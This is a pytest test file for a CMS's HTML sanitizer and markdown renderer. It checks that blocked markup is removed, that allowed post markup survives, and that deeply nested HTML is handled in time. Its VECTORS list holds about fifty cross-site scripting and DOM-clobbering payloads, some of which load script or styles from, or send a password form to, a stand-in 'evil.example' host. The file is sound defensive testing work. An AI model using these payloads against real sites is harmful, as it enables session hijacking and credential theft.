import time

import pytest

from cms.text.markdown import render, render_comment
from cms.text.sanitize import clean, clean_comment, is_tangled
from tests.text.html_facts import dangers

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    '<p onclick="alert(1)" onmouseover=alert(2)>x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name=password><button formaction="javascript:1">x</button></form>',
    "<input type=text autofocus onfocus=alert(1)><input type=password><input>",
    '<p style="background:url(javascript:alert(1));position:fixed">x</p>',
    "<style>@import '//evil.example/x.css';</style>",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<a id="main" name="csrf_token" href="x" target="_blank">x</a>',
    '<img name="getElementById" src="x" id="body">',
    '<div id="__proto__"><h2 id="content">x</h2></div>',
    '<video poster="javascript:alert(1)" src="javascript:alert(1)" onerror="alert(1)"></video>',
    '<video><source onerror="alert(1)" src="data:text/html,x"></video>',
    '<details open ontoggle="alert(1)"><summary onfocus=alert(1)>x</summary></details>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><img src=x onerror="alert(1)"></template>',
    "<!--><img src=x onerror=alert(1)>-->",
    '<p title="<input type=text onfocus=alert(1)>">x</p>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "\\" onmouseover=alert(1) ")',
    '![" onerror=alert(1) x="](https://a.example)',
    '```"><script>alert(1)</script>\nx\n```',
    "``` x onload=alert(1)\n<script>alert(1)</script>\n```",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_no_vector_is_live_through_any_way_in(vector):
    for html in (
        clean(vector),
        clean_comment(vector),
        render(vector),
        render(vector, raw_html=True),
        render(f"- > x {vector}", raw_html=True),
        render_comment(vector),
    ):
        assert dangers(html) == []


def test_the_check_for_dangers_sees_them():
    for vector in VECTORS[5:13] + VECTORS[19:34]:
        assert dangers(vector), vector


@pytest.mark.parametrize(
    "html",
    [
        '<figure><img src="/media/a.png" alt="A" title="T" width="3" height="4" loading="lazy">'
        "<figcaption>Words</figcaption></figure>",
        '<details open=""><summary>More</summary><p>Words</p></details>',
        '<table><caption>C</caption><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
        '<a href="mailto:a@b.example" title="T">x</a><a href="tel:+4912">y</a><a href="../z?q=1#f">z</a>',
        '<a href="https://a.example" rel="sponsored nofollow">x</a>',
        '<p lang="ar" dir="rtl">مرحبا</p>',
        '<span class="nf">f</span><code class="language-c++">x</code>',
        '<ol start="3"><li>x</li></ol>',
        '<video src="a.mp4" controls=""></video>',
    ],
)
def test_what_a_post_may_hold_passes_unchanged(html):
    assert clean(html) == html


def test_classes_that_are_not_ours_are_dropped():
    assert clean('<div class="modal highlight admin">x</div><p class="highlight">y</p>') == (
        '<div class="highlight">x</div><p>y</p>'
    )


def test_only_disabled_checkboxes_are_left_of_inputs():
    html = clean('a<input type="text" value="x">b<INPUT type="checkbox" name="x" checked>c<input type=submit>')

    assert html.count("<input") == 1
    assert 'type="checkbox"' in html
    assert "disabled" in html


def test_ids_of_writers_get_a_prefix_and_links_follow():
    assert clean('<p id="main">x</p><a href="#main">y</a>') == '<p id="user-main">x</p><a href="#user-main">y</a>'
    assert clean(clean('<p id="main">x</p>')) == '<p id="user-main">x</p>'


def test_links_in_comments_vouch_for_nobody():
    assert clean_comment('<a href="https://a.example" title="t" rel="me">x</a>') == (
        '<a href="https://a.example" rel="nofollow ugc noopener">x</a>'
    )


def test_comments_hold_no_pictures_headings_or_tables():
    assert clean_comment("<h1>a</h1><img src=x><table><tr><td>b</td></tr></table><p>c</p>") == "ab<p>c</p>"


@pytest.mark.parametrize("part", ["<ul><li>", "<div>", "<b><p>", "<a><b>", "<table><tr><td>"])
def test_tangled_html_is_shown_as_text_in_time(part):
    html = part * 20_000
    start = time.monotonic()

    assert is_tangled(html)
    assert "<" not in clean(html)
    assert "<ul>" not in render(html, raw_html=True)
    assert time.monotonic() - start < 5


def test_long_but_orderly_html_is_not_tangled():
    assert not is_tangled("<div><ul><li><p>a <b>b</b><li>c</ul><img src=x><br></div>" * 20_000)
